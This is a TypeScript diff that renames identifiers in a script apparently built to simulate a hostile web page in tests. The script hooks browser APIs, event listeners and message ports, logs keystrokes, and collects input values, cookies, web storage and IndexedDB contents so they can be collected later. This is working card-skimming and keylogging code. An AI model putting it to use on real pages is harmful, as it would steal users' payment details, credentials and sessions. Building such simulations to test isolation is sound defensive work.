@@ -1,5 +1,5 @@
 /** Something that a hostile page captured, and where. */
-export interface Loot {
+export interface Capture {
   readonly where: string;
   readonly text: string;
 }
@@ -7,7 +7,7 @@ export interface Loot {
 declare global {
   interface Window {
     /** Everything the page has captured so far; searches once more before it returns. */
-    readonly collectLoot: () => Promise<readonly Loot[]>;
+    readonly collectLoot: () => Promise<readonly Capture[]>;
     /** Every port of a `MessageChannel` created in the page. */
     readonly stolenPorts: readonly MessagePort[];
   }
@@ -17,20 +17,20 @@ declare global {
  * The first script of a hostile page: wraps every API that could carry a card, and stores all text that passes. Runs in
  * the page, so it refers to nothing outside itself.
  */
-export function steal(): void {
-  const loot: Loot[] = [];
+export function captureScript(): void {
+  const captures: Capture[] = [];
   const seen = new Set<string>();
   const roots: ShadowRoot[] = [];
   const ports: MessagePort[] = [];
   let keys = '';
   const listen = Object.getOwnPropertyDescriptor(EventTarget.prototype, 'addEventListener')?.value as (
-    ...given: unknown[]
+    ...args: unknown[]
   ) => void;
 
-  const keep = (where: string, text: string): void => {
+  const addCapture = (where: string, text: string): void => {
     if (text === '' || seen.has(`${where} ${text}`)) return;
     seen.add(`${where} ${text}`);
-    loot.push({where, text});
+    captures.push({where, text});
   };
 
   /** The parts of a value. A cross-origin window throws on every access. */
@@ -46,19 +46,19 @@ export function steal(): void {
     if (Symbol.iterator in value) return [...(value as Iterable<unknown>)];
     return Object.entries(value).flat();
   };
-  const readLater = (where: string, value: object): void => {
+  const readBody = (where: string, value: object): void => {
     const read = value instanceof Request || value instanceof Response ? value.clone().text() : undefined;
     const text = read ?? (value instanceof Blob ? value.text() : undefined);
-    void text?.then((got) => keep(where, got)).catch(() => undefined);
-    if ('url' in value && typeof value.url === 'string') keep(where, value.url);
+    void text?.then((got) => addCapture(where, got)).catch(() => undefined);
+    if ('url' in value && typeof value.url === 'string') addCapture(where, value.url);
   };
-  const take = (where: string, value: unknown, depth = 0): void => {
-    if (typeof value === 'string') keep(where, value);
-    else if (typeof value === 'number' || typeof value === 'bigint') keep(where, String(value));
+  const inspect = (where: string, value: unknown, depth = 0): void => {
+    if (typeof value === 'string') addCapture(where, value);
+    else if (typeof value === 'number' || typeof value === 'bigint') addCapture(where, String(value));
     if (typeof value !== 'object' || value === null || depth > 6) return;
     try {
-      readLater(where, value);
-      for (const part of partsOf(value)) take(where, part, depth + 1);
+      readBody(where, value);
+      for (const part of partsOf(value)) inspect(where, part, depth + 1);
     } catch {
       // A cross-origin object.
     }
@@ -67,30 +67,30 @@ export function steal(): void {
   const wrap = (target: object, name: string, where = name): void => {
     const original: unknown = Reflect.get(target, name);
     if (typeof original !== 'function') return;
-    const wrapped = function (this: unknown, ...given: unknown[]): unknown {
-      take(where, given);
-      const result: unknown = Reflect.apply(original, this, given);
-      if (result instanceof Promise) void result.then((got) => take(where, got)).catch(() => undefined);
+    const wrapped = function (this: unknown, ...args: unknown[]): unknown {
+      inspect(where, args);
+      const result: unknown = Reflect.apply(original, this, args);
+      if (result instanceof Promise) void result.then((got) => inspect(where, got)).catch(() => undefined);
       else if (result instanceof ShadowRoot) roots.push(result);
-      else take(where, result);
+      else inspect(where, result);
       return result;
     };
     Reflect.set(target, name, wrapped);
   };
   const wrapConstructor = (name: string, isMade: (made: object) => void = () => undefined): void => {
-    const construct = (original: object, given: unknown[]): object => {
-      take(name, given);
-      const made = Reflect.construct(original as new () => object, given) as object;
+    const construct = (original: object, args: unknown[]): object => {
+      inspect(name, args);
+      const made = Reflect.construct(original as new () => object, args) as object;
       isMade(made);
       return made;
     };
     Reflect.set(window, name, new Proxy(Reflect.get(window, name) as object, {construct}));
   };
-  const overhear = (where: string, handler: object): unknown =>
+  const wrapHandler = (where: string, handler: object): unknown =>
     new Proxy(handler, {
-      apply(target, self, given: unknown[]): unknown {
-        take(where, given);
-        return Reflect.apply(target as () => unknown, self, given);
+      apply(target, self, args: unknown[]): unknown {
+        inspect(where, args);
+        return Reflect.apply(target as () => unknown, self, args);
       },
     });
   const wrapProperty = (target: object, name: string): void => {
@@ -99,12 +99,12 @@ export function steal(): void {
       configurable: true,
       get(this: object): unknown {
         const got: unknown = original?.get?.call(this);
-        take(name, got);
+        inspect(name, got);
         return got;
       },
       set(this: object, value: unknown) {
-        take(name, value);
-        original?.set?.call(this, typeof value === 'function' ? overhear(name, value) : value);
+        inspect(name, value);
+        original?.set?.call(this, typeof value === 'function' ? wrapHandler(name, value) : value);
       },
     });
   };
@@ -131,11 +131,11 @@ export function steal(): void {
   wrapConstructor('MessageChannel', (made) => {
     const {port1, port2} = made as MessageChannel;
     ports.push(port1, port2);
-    listen.call(port1, 'message', (event: unknown) => take('port', event));
+    listen.call(port1, 'message', (event: unknown) => inspect('port', event));
   });
-  EventTarget.prototype.addEventListener = function (this: EventTarget, ...given: unknown[]): void {
-    listen.call(this, given[0], (event: unknown) => take('addEventListener', event), true);
-    listen.apply(this, given);
+  EventTarget.prototype.addEventListener = function (this: EventTarget, ...args: unknown[]): void {
+    listen.call(this, args[0], (event: unknown) => inspect('addEventListener', event), true);
+    listen.apply(this, args);
   };
   for (const type of [
     'keydown',
@@ -149,24 +149,24 @@ export function steal(): void {
     'message',
     'focusin',
   ])
-    listen.call(window, type, (event: unknown) => take(`window ${type}`, event), true);
+    listen.call(window, type, (event: unknown) => inspect(`window ${type}`, event), true);
   listen.call(window, 'keydown', (event: KeyboardEvent) => (keys += event.key), true);
 
-  const lookAround = async (): Promise<void> => {
+  const inspectPage = async (): Promise<void> => {
     const serializer = new XMLSerializer();
     for (const root of [document, ...roots]) {
-      for (const child of root.children) keep('DOM', serializer.serializeToString(child));
-      for (const input of root.querySelectorAll('input')) keep('DOM', input.value);
+      for (const child of root.children) addCapture('DOM', serializer.serializeToString(child));
+      for (const input of root.querySelectorAll('input')) addCapture('DOM', input.value);
       for (const frame of root.querySelectorAll('iframe'))
-        take('frame', [frame.src, frame.contentDocument?.body.textContent]);
+        inspect('frame', [frame.src, frame.contentDocument?.body.textContent]);
     }
-    take('storage', [{...localStorage}, {...sessionStorage}, document.cookie, location.href, history.state]);
-    take(
+    inspect('storage', [{...localStorage}, {...sessionStorage}, document.cookie, location.href, history.state]);
+    inspect(
       'performance',
       performance.getEntries().map(({name}) => name),
     );
-    take('selection', [String(getSelection()), document.title, window.name]);
-    for (const {name} of await indexedDB.databases()) take('indexedDB', await dump(name ?? ''));
+    inspect('selection', [String(getSelection()), document.title, window.name]);
+    for (const {name} of await indexedDB.databases()) inspect('indexedDB', await dump(name ?? ''));
   };
   const dump = (name: string): Promise<readonly unknown[]> =>
     new Promise((resolve) => {
@@ -188,8 +188,8 @@ export function steal(): void {
   Object.defineProperty(window, 'stolenPorts', {value: ports});
   Object.defineProperty(window, 'collectLoot', {
     value: async () => {
-      await lookAround();
-      return [...loot, {where: 'keys', text: keys}];
+      await inspectPage();
+      return [...captures, {where: 'keys', text: keys}];
     },
   });
 }
